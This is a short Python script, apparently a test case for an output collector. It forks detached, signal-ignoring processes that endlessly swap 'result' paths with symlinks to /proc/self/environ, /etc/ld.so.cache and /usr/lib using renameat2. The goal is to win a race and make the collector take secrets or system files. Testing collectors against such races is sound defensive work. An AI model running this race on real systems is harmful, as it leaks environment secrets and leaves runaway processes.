# SPDX-License-Identifier: Apache-2.0
"""Swap what is to be collected for something else, as fast as possible and by
processes that go on after the program's end."""
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
os.mkdir("d")
open("d/result", "w").write("mine")
os.mkdir("e")
os.symlink("/proc/self/environ", "e/result")
os.symlink("/usr/lib", "link")
open("result", "w").write("mine")
os.symlink("/etc/ld.so.cache", "other")
EXCHANGE = 2
for pair in ((b"d", b"e"), (b"result", b"other"), (b"d", b"link"),
             (b"d", b"e")):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 65):
            if number not in (signal.SIGKILL, signal.SIGSTOP, 32, 33):
                signal.signal(number, signal.SIG_IGN)
        while True:
            libc.renameat2(-100, pair[0], -100, pair[1], EXCHANGE)
print("attempt racers done 4", flush=True)
os._exit(0)
